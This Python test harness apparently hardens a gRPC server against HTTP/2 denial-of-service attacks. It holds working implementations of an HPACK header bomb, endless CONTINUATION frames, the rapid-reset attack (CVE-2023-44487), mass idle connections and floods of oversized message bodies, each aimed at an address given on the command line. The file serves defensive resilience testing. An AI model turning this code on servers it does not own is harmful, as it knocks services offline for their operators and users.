"""Raw HTTP/2 attacks on a gRPC server, from Python's `h2` (hyper-h2), for the hardening tests.

    python3 tests/python/h2_attack.py --address HOST:PORT MODE [--connections N] [--streams N]

Modes (each bounded in count and time, and ends by itself):
  hpack-bomb    one 4,000-byte header value put in the HPACK table (4 KiB) once, then referenced by
                index (one byte each) --refs times (4,000) per request on every stream: each request
                expands to ~16 MiB of headers (h2's default limit) from 4 KiB on the wire.
  continuation  HEADERS without END_HEADERS, then CONTINUATION frames of new header bytes,
                never ended, on each connection, until the server closes it or MiB run out.
  rapid-reset   opens streams and resets them at once (CVE-2023-44487), many times.
  idle          opens N connections, completes the HTTP/2 handshake on each, then holds them
                without a call for --hold seconds.
  bodies        on one connection, --streams calls each sending one message of 4 MiB - 1
                bytes (the largest a server takes by default), as fast as the windows allow;
                prints how many calls the server refused (RESOURCE_EXHAUSTED or a reset).

Prints one line `done MODE connections=N closed_by_server=N` and exits 0; the caller checks
what the server did (its memory, whether it still answers).
"""

import argparse
import resource
import socket
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import hpack
from hyperframe.frame import ContinuationFrame, HeadersFrame


def connect(address, timeout=5.0):
    host, port = address.rsplit(":", 1)
    sock = socket.create_connection((host, int(port)), timeout=timeout)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return sock


def handshake(sock):
    """A client connection with its preface and SETTINGS sent, the server's read."""
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    sock.settimeout(5.0)
    try:
        data = sock.recv(65536)
        if data:
            conn.receive_data(data)
            sock.sendall(conn.data_to_send())
    except (socket.timeout, h2.exceptions.ProtocolError):
        pass
    return conn


def base_headers(address):
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":authority", address),
        (":path", "/greeter.Greeter/Hello"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]


def drain(sock):
    """Reads what the server sent without blocking; False once it closed the connection."""
    sock.setblocking(False)
    try:
        while True:
            data = sock.recv(65536)
            if not data:
                return False
    except (BlockingIOError, socket.timeout):
        return True
    except OSError:
        return False
    finally:
        sock.setblocking(True)


def hpack_bomb(args):
    """Each request: the big header by index, --refs times (one byte each)."""
    closed = 0
    socks = []
    value = "x" * 4000
    # The request's own headers never enter the table, so the big header stays at its
    # index (62, the first dynamic entry) for every request.
    plain = [hpack.NeverIndexedHeaderTuple(k, v) for k, v in base_headers(args.address)]
    for _ in range(args.connections):
        sock = connect(args.address)
        handshake(sock)
        encoder = hpack.Encoder()
        first = encoder.encode(plain + [("bomb", value)])
        again = encoder.encode([("bomb", value)])
        assert len(again) == 1, "the big header is not indexed"
        stream_id = 1
        for stream in range(args.streams):
            block = first if stream == 0 else encoder.encode(plain)
            block += again * args.refs
            frame = HeadersFrame(stream_id)
            frame.data = block
            frame.flags.add("END_HEADERS")
            try:
                sock.sendall(frame.serialize())
            except OSError:
                closed += 1
                break
            stream_id += 2
        socks.append(sock)
    time.sleep(1.0)
    for sock in socks:
        if not drain(sock):
            closed += 1
        sock.close()
    return closed


def continuation(args):
    """HEADERS, then CONTINUATION frames of fresh literal headers, never END_HEADERS."""
    closed = 0
    socks = [connect(args.address) for _ in range(args.connections)]
    for sock in socks:
        handshake(sock)
    encoder = hpack.Encoder()
    start = HeadersFrame(1)
    start.data = encoder.encode(base_headers(args.address))
    for sock in socks:
        sock.sendall(start.serialize())
    alive = list(socks)
    sent = 0
    limit = args.mib << 20
    n = 0
    while alive and sent < limit:
        block = encoder.encode([(f"h{n}", "y" * 8000)])
        n += 1
        frame = ContinuationFrame(1)
        frame.data = block
        wire = frame.serialize()
        still = []
        for sock in alive:
            try:
                sock.sendall(wire)
                still.append(sock)
            except OSError:
                closed += 1
        alive = still
        sent += len(wire)
    for sock in alive:
        if not drain(sock):
            closed += 1
        sock.close()
    return closed


def rapid_reset(args):
    closed = 0
    for _ in range(args.connections):
        sock = connect(args.address)
        conn = handshake(sock)
        try:
            for _ in range(args.streams):
                stream_id = conn.get_next_available_stream_id()
                conn.send_headers(stream_id, base_headers(args.address))
                conn.reset_stream(stream_id)
                sock.sendall(conn.data_to_send())
        except (OSError, h2.exceptions.ProtocolError, h2.exceptions.TooManyStreamsError):
            closed += 1
        if not drain(sock):
            closed += 1
        sock.close()
    return closed


def idle(args):
    # The client needs as many descriptors as connections.
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = args.connections + 64
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(want, hard), hard))
    socks = []
    for _ in range(args.connections):
        try:
            sock = connect(args.address)
            handshake(sock)
            socks.append(sock)
        except OSError:
            pass
    print(f"holding {len(socks)}", flush=True)
    time.sleep(args.hold)
    closed = sum(1 for sock in socks if not drain(sock))
    for sock in socks:
        sock.close()
    return closed


def bodies(args):
    sock = connect(args.address, timeout=30.0)
    conn = handshake(sock)
    size = (4 << 20) - 1 - 5
    message = b"\0" + size.to_bytes(4, "big") + b"x" * size
    pending = {}
    for _ in range(args.streams):
        stream_id = conn.get_next_available_stream_id()
        conn.send_headers(stream_id, base_headers(args.address))
        pending[stream_id] = 0
    sock.sendall(conn.data_to_send())
    refused = 0
    answered = 0
    deadline = time.monotonic() + args.hold
    sock.settimeout(0.05)
    while pending and time.monotonic() < deadline:
        for stream_id in list(pending):
            sent = pending[stream_id]
            window = min(conn.local_flow_control_window(stream_id), conn.max_outbound_frame_size)
            if window <= 0 or sent >= len(message):
                continue
            chunk = message[sent : sent + window]
            end = sent + len(chunk) >= len(message)
            try:
                conn.send_data(stream_id, chunk, end_stream=end)
                pending[stream_id] = sent + len(chunk)
            except h2.exceptions.StreamClosedError:
                pending.pop(stream_id, None)
        try:
            sock.sendall(conn.data_to_send())
            data = sock.recv(1 << 20)
            if not data:
                break
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.StreamReset):
                    if pending.pop(event.stream_id, None) is not None:
                        refused += 1
                elif isinstance(event, (h2.events.TrailersReceived, h2.events.ResponseReceived)):
                    status = dict(event.headers).get(b"grpc-status")
                    if status == b"8":
                        refused += 1
                    if status is not None:
                        answered += 1
                        pending.pop(event.stream_id, None)
            sock.sendall(conn.data_to_send())
        except socket.timeout:
            pass
        except (OSError, h2.exceptions.ProtocolError):
            break
    print(f"refused {refused} answered {answered} unfinished {len(pending)}", flush=True)
    sock.close()
    return 0


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--address", required=True)
    parser.add_argument(
        "mode", choices=["hpack-bomb", "continuation", "rapid-reset", "idle", "bodies"]
    )
    parser.add_argument("--connections", type=int, default=1)
    parser.add_argument("--streams", type=int, default=1000)
    parser.add_argument("--mib", type=int, default=64, help="continuation: MiB sent at most")
    parser.add_argument("--refs", type=int, default=4000, help="hpack-bomb: references per request")
    parser.add_argument("--hold", type=float, default=5.0, help="idle, bodies: seconds at most")
    args = parser.parse_args()
    modes = {
        "hpack-bomb": hpack_bomb,
        "continuation": continuation,
        "rapid-reset": rapid_reset,
        "idle": idle,
        "bodies": bodies,
    }
    closed = modes[args.mode](args)
    try:
        print(f"done {args.mode} connections={args.connections} closed_by_server={closed}", flush=True)
    except BrokenPipeError:
        pass  # the caller stopped reading


if __name__ == "__main__":
    main()
